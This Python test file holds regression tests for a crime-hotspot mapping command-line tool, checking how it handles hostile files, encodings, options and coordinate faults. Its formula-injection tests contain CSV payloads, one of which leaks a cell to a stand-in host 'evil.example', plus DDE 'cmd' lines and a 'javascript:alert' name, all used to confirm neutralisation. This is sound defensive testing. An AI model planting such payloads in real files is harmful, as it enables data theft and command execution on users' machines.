"""Regression tests for issue 18: hostile and careless inputs and options.

Each case here was found by trying hostile files and options against the command line; the
test pins the fixed behaviour: a clear message and exit code, never "Internal error", no input
overwritten, no formula in a CSV output.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from hotspots.cli import main
from hotspots.outputs import csv_text, neutralise_formula

NORWICH = "52.6284,1.2963"
ROWS = "".join(
    f"{i},cuckooing,2024-07-{i + 1:02d},52.62{i:02d},1.29{i:02d}\n" for i in range(1, 9)
)


def invoke(*args: str):
    return CliRunner().invoke(main, [str(a) for a in args])


def events(folder: Path, name: str = "events.csv", body: str = ROWS) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text("id,type,date,lat,lon\n" + body, encoding="utf-8")
    return path


# --- 2. an input is never replaced by an output ---------------------------------------------


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["validate"], "rejected.csv"),
        (["map", "--period", "2024Q3"], "rejected.csv"),
        (["map", "--period", "2024Q3"], "areas.csv"),
    ],
    ids=["validate-rejected", "map-rejected", "map-areas"],
)
def test_an_input_named_like_an_output_in_out_is_refused(tmp_path, command, name):
    out = tmp_path / "o"
    source = events(out, name)
    before = source.read_bytes()
    run = invoke(*command[:1], source, *command[1:], "--out", out)
    assert run.exit_code == 2, run.output
    assert f"{source}" in run.output and "would be replaced by the output" in run.output
    assert source.read_bytes() == before


def test_a_hard_link_to_the_input_is_protected_too(tmp_path):
    source = events(tmp_path)
    out = tmp_path / "o"
    out.mkdir()
    (out / "rejected.csv").hardlink_to(source)
    before = source.read_bytes()
    run = invoke("validate", source, "--out", out)
    assert run.exit_code == 2, run.output
    assert source.read_bytes() == before


def test_empty_out_is_refused(tmp_path):
    run = invoke("validate", events(tmp_path), "--out", "")
    assert run.exit_code == 2
    assert "empty value" in run.output


# --- 3. CSV formula injection ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "'=HYPERLINK"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),
    ],
    ids=["equals", "at", "plus", "minus", "tab", "carriage-return"],
)
def test_formula_cells_are_neutralised(cell, written):
    text = csv_text(pd.DataFrame({"id": [cell]}))
    assert next(csv.reader(io.StringIO(text.split("\n", 1)[1])))[0].startswith(written)


@pytest.mark.parametrize(
    "cell", ["-1.2963", "+52.6", "-620123", "-2,5", "1e-3", "plain", ""],
    ids=["negative", "plus-number", "negative-easting", "decimal-comma", "exponent", "text", "empty"],
)
def test_numbers_and_plain_text_are_untouched(cell):
    assert neutralise_formula(cell) == cell
    assert csv_text(pd.DataFrame({"x": [-620123.5], "id": [cell]})).startswith("x,id\n-620123.5,")


def test_rejected_csv_neutralises_echoed_cells(tmp_path):
    body = '=HYPERLINK("http://evil.example"),cuckooing,2024-07-01,,\n@SUM(1),raid,bad,52.6,1.29\n'
    source = events(tmp_path, body=ROWS + body)
    out = tmp_path / "o"
    run = invoke("validate", source, "--out", out)
    assert run.exit_code == 0, run.output
    rows = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    cells = [v for row in rows for v in row.values()]
    assert not any(v.startswith(("=", "@", "+")) for v in cells)
    assert "'=HYPERLINK(\"http://evil.example\")" in cells


# --- 5. a message, never "Internal error" ---------------------------------------------------


@pytest.mark.parametrize(
    ("config", "message"),
    [
        (b'[columns]\ndate = "id"\n', "id and date both read column 'id'"),
        (b'[columns]\nlat = "lon"\n', "lat and lon both read column 'lon'"),
        (b'[columns]\nlat = "Pos"\nlon = "Pos"\n', "lat and lon both read column 'Pos'"),
        ('[columns]\nid = "café"\n'.encode("cp1252"), "not UTF-8 (byte 0xe9"),
        ('[columns]\nid = "ref"\n'.encode("utf-16"), "is UTF-16"),
        ('[columns]\nid = "ref"\n'.encode("utf-16-le"), "is UTF-16"),
    ],
    ids=["date-is-id", "lat-is-lon", "lat-and-lon-one-column", "cp1252", "utf16-bom", "utf16-le"],
)
def test_bad_configs_get_a_message(tmp_path, config, message):
    path = tmp_path / "config.toml"
    path.write_bytes(config)
    run = invoke("validate", events(tmp_path), "--config", path)
    assert run.exit_code == 2, run.output
    assert message in run.output and "Internal error" not in run.output


def test_config_naming_a_folder_gets_a_message(tmp_path):
    run = invoke("validate", events(tmp_path), "--config", tmp_path)
    assert run.exit_code == 2, run.output
    assert "is a folder" in run.output


def test_a_utf8_config_with_a_byte_order_mark_is_read(tmp_path):
    path = tmp_path / "config.toml"
    path.write_bytes('\ufeff[columns]\nid = "ref"\n'.encode())
    source = events(tmp_path, body="")
    source.write_text("ref,type,date,lat,lon\n1,raid,2024-07-01,52.62,1.29\n", encoding="utf-8")
    assert invoke("validate", source, "--config", path).exit_code == 0


@pytest.mark.parametrize(
    ("option", "value", "message"),
    [
        ("--eps", "1e308", "eps_m: expected at most 100,000 metres"),
        ("--eps", "1e8", "eps_m: expected at most 100,000 metres"),
        ("--margin", "1e308", "footprint_margin_m: expected at most 100,000 metres"),
        ("--min-samples", str(2**63), "min_samples: expected a whole number of at most"),
    ],
    ids=["eps-1e308", "eps-1e8", "margin-1e308", "min-samples-2-63"],
)
def test_out_of_range_options_get_a_message(tmp_path, option, value, message):
    run = invoke("map", events(tmp_path), "--period", "2024Q3", "--out", tmp_path / "o", option, value)
    assert run.exit_code == 2, run.output
    assert message in run.output and "Internal error" not in run.output
    assert not (tmp_path / "o").exists()


def test_the_largest_allowed_distances_write_finite_geojson(tmp_path):
    out = tmp_path / "o"
    run = invoke(
        "map", events(tmp_path), "--period", "2024Q3", "--out", out, "--eps", "100000",
        "--margin", "100000",
    )
    assert run.exit_code == 0, run.output
    for name in ("hotspots.geojson", "enforcement_clusters.geojson"):
        text = (out / name).read_text(encoding="utf-8")
        assert "Infinity" not in text and "NaN" not in text


# --- 7. interrupts and small things -----------------------------------------------------------


def test_an_interrupt_python_loses_still_ends_the_command_with_keyboardinterrupt():
    from hotspots import process

    try:
        with pytest.raises(KeyboardInterrupt), process.signals_as_interrupts():
            try:  # Python drops it ("Exception ignored in ... weakref remove")
                process.interrupt(2, None)
            except KeyboardInterrupt:
                pass
    finally:
        process.interrupt_handled()  # cancel the watchdog, which would end pytest


def test_a_lost_interrupt_delivers_no_outputs(tmp_path):
    from hotspots import process
    from hotspots.outputs import writing

    out = tmp_path / "o"
    try:
        with pytest.raises(KeyboardInterrupt), writing(out) as folder:
            folder.write_text("areas.csv", "a\n")
            try:
                process.interrupt(2, None)
            except KeyboardInterrupt:
                pass
    finally:
        process.interrupt_handled()
    assert not (out / "areas.csv").exists()


def test_missing_glyphs_do_not_warn(recwarn):
    import warnings

    import geopandas as gpd
    import shapely

    from hotspots.brief.figure import render_figure

    box = shapely.box(620_000, 300_000, 630_000, 310_000)
    warnings.simplefilter("always")
    png = render_figure(gpd.GeoSeries([box]), [("東京 🙂 evil", box)], [], wide=True)
    assert png.startswith(b"\x89PNG")
    assert not [w for w in recwarn if "Glyph" in str(w.message)]


def test_evaluate_without_harm_to_score_by_says_so(tmp_path):
    body = "".join(
        f"{i},cuckooing,2024-07-{i:02d},52.62{i % 3},1.29{i % 3}\n" for i in range(1, 9)
    )
    run = invoke(
        "evaluate", events(tmp_path, body=body), "--period", "2024Q4", "--against", "2024Q3",
        "--out", tmp_path / "o", "--min-samples", "2",
    )
    assert "nan" not in run.output
    assert run.exit_code in (0, 3), run.output
    assert "no harm events in 2024Q4" in run.output or "no data" in run.output.lower()


# --- 6. displayed text -------------------------------------------------------------------------


def test_bidi_controls_and_endless_names_are_neutralised_in_the_briefing():
    from test_brief import NORWICH, PLANTED, brief, make_analysis

    from hotspots.brief import briefing_html, briefing_markdown
    from hotspots.display import BIDI_CONTROLS, MAX_NAME_CHARS

    hostile = "javascript:alert(1)//\u202eevil\u202c" + "x" * 10_000
    district = (NORWICH[0], hostile, NORWICH[2])
    planted = [(h[0], district if h[1] is NORWICH else h[1], *h[2:]) for h in PLANTED]
    analysis = make_analysis(planted, districts=[district, (PLANTED[0][1])])
    b = brief(analysis)
    for text in (briefing_html(b), briefing_markdown(b)):
        assert not any(c in text for c in BIDI_CONTROLS)
        assert "javascript:alert(1)//evil" in text or "javascript:alert\\(1\\)//evil" in text
        assert "x" * MAX_NAME_CHARS not in text


def test_geocoding_rate_reads_the_same_in_map_and_validate(tmp_path):
    # 14 of 17 rows with coordinates: 82.35...%; rounding to 4 places first gave 82.3% in
    # validate and 82.4% in map.
    body = ROWS + "".join(f"{i},cuckooing,2024-07-01,,\n" for i in range(20, 23))
    body += "".join(
        f"{i},raid,2024-07-0{i - 29},52.63{i - 30},1.28{i - 30}\n" for i in range(30, 36)
    )
    source = events(tmp_path, body=body)
    validated = invoke("validate", source)
    mapped = invoke("map", source, "--period", "2024Q3", "--out", tmp_path / "o")
    assert "geocoding rate 82.4%" in validated.output, validated.output
    assert "geocoding rate 82.4%" in mapped.output, mapped.output


@pytest.mark.parametrize(
    ("values", "entries"),
    [
        (["Norwich, City of"], ("Norwich, City of",)),
        (["Bristol, City of,Breckland"], ("Bristol, City of", "Breckland")),
        (["Breckland,Broadland", "Norwich"], ("Breckland", "Broadland", "Norwich")),
        (["Herefordshire, County of"], ("Herefordshire, County of",)),
    ],
    ids=["city-of", "city-of-then-more", "plain", "county-of"],
)
def test_study_area_keeps_ons_names_with_commas(values, entries):
    from hotspots.validate import split_study_area

    assert split_study_area(values) == entries


def test_single_part_multipoints_are_points(tmp_path):
    import geopandas as gpd
    import shapely

    points = [shapely.MultiPoint([(1.29 + i / 1000, 52.62)]) for i in range(3)]
    points.append(shapely.MultiPoint([(1.29, 52.62), (1.3, 52.63)]))  # two parts: not a point
    frame = gpd.GeoDataFrame(
        {"id": ["a", "b", "c", "d"], "type": ["raid"] * 4, "date": ["2024-07-01"] * 4},
        geometry=points, crs="EPSG:4326",
    )
    path = tmp_path / "events.gpkg"
    frame.to_file(path, driver="GPKG")
    out = tmp_path / "o"
    run = invoke("validate", path, "--out", out)
    assert run.exit_code == 0, run.output
    rejected = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    assert [(r["id"], r["reason"]) for r in rejected] == [("d", "geometry_not_point")]


def test_zero_width_characters_do_not_hide_a_duplicate_id(tmp_path):
    body = "A1,raid,2024-07-01,52.62,1.29\nA\u200b1,raid,2024-07-02,52.62,1.29\n\ufeffB2,raid,2024-07-02,52.62,1.29\nB2,raid,2024-07-02,52.62,1.29\n"
    out = tmp_path / "o"
    run = invoke("validate", events(tmp_path, body=body), "--out", out)
    assert run.exit_code == 0, run.output
    rejected = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    assert [r["reason"] for r in rejected] == ["duplicate_id", "duplicate_id"]


@pytest.mark.parametrize(
    ("date", "reason"),
    [("2024-07-01 25:99", "unparseable_time"), ("2024-07-01T24:61", "unparseable_time"),
     ("25/07/2024 23:60", "unparseable_time"), ("2024-07-01T23:59", None)],
    ids=["25-99", "24-61", "slashed-23-60", "23-59"],
)
def test_impossible_times_are_rejected(tmp_path, date, reason):
    body = f"x1,raid,{date},52.62,1.29\n"
    out = tmp_path / "o"
    run = invoke("validate", events(tmp_path, body=ROWS + body), "--out", out)
    assert run.exit_code == 0, run.output
    rejected = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    assert [r["reason"] for r in rejected if r["id"] == "x1"] == ([reason] if reason else [])


def test_implausible_years_are_flagged(tmp_path):
    body = "y1,raid,0001-07-01,52.62,1.29\ny2,raid,2099-07-01,52.62,1.29\n"
    out = tmp_path / "o"
    run = invoke("validate", events(tmp_path, body=ROWS + body), "--out", out)
    assert run.exit_code == 0, run.output
    summary = (out / "summary.json").read_text(encoding="utf-8")
    assert "2 rows have a date before 1990 or after" in summary
    assert "row 9: '0001-07-01'" in summary


SMALL = "id,type,date,lat,lon\n1,raid,2024-07-01,52.62,1.29\n"


@pytest.mark.parametrize(
    ("name", "data", "message", "code"),
    [
        ("u16.csv", SMALL.encode("utf-16-le"), "UTF-16 text without a byte-order mark; pass --encoding utf-16-le", 2),
        ("u16be.csv", SMALL.encode("utf-16-be"), "pass --encoding utf-16-be", 2),
        ("sep.csv", ("sep=;\n" + SMALL.replace(",", ";")).encode(), "Excel's delimiter hint", 2),
        ("gz.csv", __import__("gzip").compress(SMALL.encode()), "gzip-compressed", 2),
        ("zip.csv", b"PK\x03\x04" + bytes(range(256)), "zip archive", 2),
        ("bin.csv", bytes(range(256)) * 4, "binary file, not text", 2),
        ("book.xlsx", b"PK\x03\x04junk", "is a spreadsheet (.xlsx)", 2),
        ("empty.geojson", b'{"type":"FeatureCollection","features":[]}', "no features", 3),
    ],
    ids=["utf16-le", "utf16-be", "excel-sep", "gzip", "zip", "binary", "xlsx", "empty-features"],
)
def test_files_that_are_not_what_they_say_get_the_real_problem(tmp_path, name, data, message, code):
    path = tmp_path / name
    path.write_bytes(data)
    run = invoke("validate", path)
    assert run.exit_code == code, run.output
    assert message in run.output and "no 'id' column" not in run.output


def test_utf16_without_bom_reads_with_the_encoding_named(tmp_path):
    path = tmp_path / "u16.csv"
    path.write_bytes(SMALL.encode("utf-16-le"))
    run = invoke("validate", path, "--encoding", "utf-16-le")
    assert run.exit_code == 0, run.output


def test_a_fifo_is_refused_not_waited_on(tmp_path):
    import os

    fifo = tmp_path / "events.csv"
    os.mkfifo(fifo)
    run = invoke("validate", fifo)
    assert run.exit_code == 2, run.output
    assert "can be read only once" in run.output


def test_the_same_file_twice_is_refused(tmp_path):
    source = events(tmp_path)
    run = invoke("validate", source, tmp_path / "." / "events.csv")
    assert run.exit_code == 2, run.output
    assert "passed twice" in run.output


def test_same_named_files_from_two_folders_are_told_apart_in_rejected_csv(tmp_path):
    a = events(tmp_path / "a", body="a1,raid,bad,52.62,1.29\n")
    b = events(tmp_path / "b", body="b1,raid,bad,52.62,1.29\n")
    out = tmp_path / "o"
    run = invoke("validate", a, b, "--out", out)
    assert run.exit_code == 0, run.output
    rejected = list(csv.DictReader((out / "rejected.csv").open(encoding="utf-8")))
    assert {r["source_file"] for r in rejected} == {str(a), str(b)}


def test_crs_for_a_lat_lon_file_is_reported_as_unused(tmp_path):
    out = tmp_path / "o"
    run = invoke("validate", events(tmp_path), "--crs", "EPSG:27700", "--out", out)
    assert run.exit_code == 0, run.output
    summary = (out / "summary.json").read_text(encoding="utf-8")
    assert "--crs EPSG:27700 was not used" in summary and "lat/lon columns" in summary


@pytest.mark.parametrize(
    ("header", "rows", "hint"),
    [
        ("id,type,date,lat,lon", [f"{i},raid,2024-07-01,1.29{i},52.62{i}" for i in range(5)],
         "the 'lat' column holds longitudes and the 'lon' column latitudes"),
        ("id,type,date,easting,northing", [f"{i},raid,2024-07-01,623.15{i},308.72{i}" for i in range(5)],
         "they look like kilometres"),
        ("id;type;date;easting;northing", [f"{i};raid;2024-07-01;623,15{i};308,72{i}" for i in range(5)],
         "thousands comma"),
        # Norwich is E 623000 N 308000: written northing-first, each row reads as a point
        # off the coast of Dumfries and Galloway, outside every district.
        ("id,type,date,easting,northing", [f"{i},raid,2024-07-01,30872{i},62315{i}" for i in range(5)],
         "the 'easting' column holds northings and the 'northing' column eastings"),
    ],
    ids=["lat-lon-swapped", "kilometres", "thousands-commas", "easting-northing-swapped"],
)
def test_a_file_wide_coordinate_fault_gets_a_hint(tmp_path, header, rows, hint):
    path = tmp_path / "events.csv"
    path.write_text(header + "\n" + "\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "o"
    run = invoke("validate", path, "--out", out)
    assert run.exit_code == 0, run.output
    summary = (out / "summary.json").read_text(encoding="utf-8")
    assert hint in summary, summary


@pytest.mark.parametrize(
    ("rows", "hinted"),
    [
        ([f"{i},raid,2024-07-01,30872{i},62315{i}" for i in range(5)], True),
        ([f"{i},raid,2024-07-01,62315{i},30872{i}" for i in range(5)], False),
        # One stray row the wrong way round among right ones is a stray row, not the file.
        ([f"{i},raid,2024-07-01,62315{i},30872{i}" for i in range(5)] + ["9,raid,2024-07-01,308729,623159"],
         False),
    ],
    ids=["all-swapped", "right-way-round", "one-stray-row"],
)
def test_swapped_easting_northing_hint_names_the_headers_and_the_config_fix(tmp_path, rows, hinted):
    import json

    path = tmp_path / "events.csv"
    path.write_text("id,type,date,East,North\n" + "\n".join(rows) + "\n", encoding="utf-8")
    config = tmp_path / "config.toml"
    config.write_text('[columns]\neasting = "East"\nnorthing = "North"\n', encoding="utf-8")
    out = tmp_path / "o"
    run = invoke("validate", path, "--config", config, "--out", out)
    assert run.exit_code == 0, run.output
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    notes = [n for n in summary["notes"] if "wrong way round" in n]
    if not hinted:
        assert notes == [], notes
        return
    assert len(notes) == 1, summary["notes"]
    assert notes[0].startswith("events.csv: 5 of 5 rows have easting and northing the wrong way round")
    assert "the 'East' column holds northings and the 'North' column eastings" in notes[0]
    assert '[columns] easting = "North", northing = "East"' in notes[0]
    # The fix works: the config the hint gives analyses every row in Norwich.
    config.write_text('[columns]\neasting = "North"\nnorthing = "East"\n', encoding="utf-8")
    fixed = invoke("validate", path, "--config", config, "--out", tmp_path / "fixed")
    assert fixed.exit_code == 0, fixed.output
    report = json.loads((tmp_path / "fixed" / "summary.json").read_text(encoding="utf-8"))
    assert report["rows_rejected"] == 0, report
    assert not [n for n in report["notes"] if "wrong way round" in n]


def test_swapped_points_of_a_spatial_file_get_the_geometry_fix(tmp_path):
    import json

    import geopandas as gpd
    import shapely

    path = tmp_path / "events.gpkg"
    # Inverness (E 266000 N 845000) written y-first: x beyond GB's eastings, so each row is
    # already coordinates_swapped; the file-wide hint still names the fix.
    gpd.GeoDataFrame(
        {"id": [str(i) for i in range(4)], "type": ["raid"] * 4, "date": ["2024-07-01"] * 4},
        geometry=[shapely.Point(845000 + i, 266000 + i) for i in range(4)], crs="EPSG:27700",
    ).to_file(path, driver="GPKG")
    out = tmp_path / "o"
    run = invoke("validate", path, "--out", out)
    assert run.exit_code == 0, run.output
    notes = json.loads((out / "summary.json").read_text(encoding="utf-8"))["notes"]
    hint = [n for n in notes if "wrong way round" in n]
    assert len(hint) == 1 and "4 of 4 rows" in hint[0], notes
    assert "rebuild the points with x and y exchanged" in hint[0]


def test_a_multi_layer_geopackage_names_its_layers_and_takes_layer(tmp_path):
    import geopandas as gpd
    import shapely

    path = tmp_path / "events.gpkg"
    events_frame = gpd.GeoDataFrame(
        {"id": ["a", "b"], "type": ["raid", "raid"], "date": ["2024-07-01"] * 2},
        geometry=[shapely.Point(1.29, 52.62), shapely.Point(1.30, 52.63)], crs="EPSG:4326",
    )
    other = gpd.GeoDataFrame({"name": ["x"]}, geometry=[shapely.Point(0, 0)], crs="EPSG:4326")
    other.to_file(path, layer="notes", driver="GPKG")
    events_frame.to_file(path, layer="events", driver="GPKG")
    run = invoke("validate", path)
    assert run.exit_code == 2, run.output
    assert "holds 2 layers" in run.output and "'events'" in run.output and "--layer" in run.output
    assert "Warning" not in run.output
    assert invoke("validate", path, "--layer", "events").exit_code == 0
    missing = invoke("validate", path, "--layer", "nope")
    assert missing.exit_code == 2 and "no layer 'nope'" in missing.output


@pytest.mark.parametrize("name", ["\x00", "utf-8\x00", "klingon"], ids=["nul", "utf8-nul", "unknown"])
def test_an_impossible_encoding_name_is_refused_naming_the_file(tmp_path, name):
    # A NUL in the name made Python's codec lookup raise ValueError, not LookupError: exit 1,
    # "Internal error" (found by the 5,000-case option-values fuzz run).
    source = events(tmp_path)
    done = invoke("map", source, "--period", "2024Q3", "--encoding", name, "--out", tmp_path / "out")
    assert done.exit_code == 2, done.output
    assert f"{source}: unknown encoding {name!r} given with --encoding" in done.output
    assert "Internal error" not in done.output
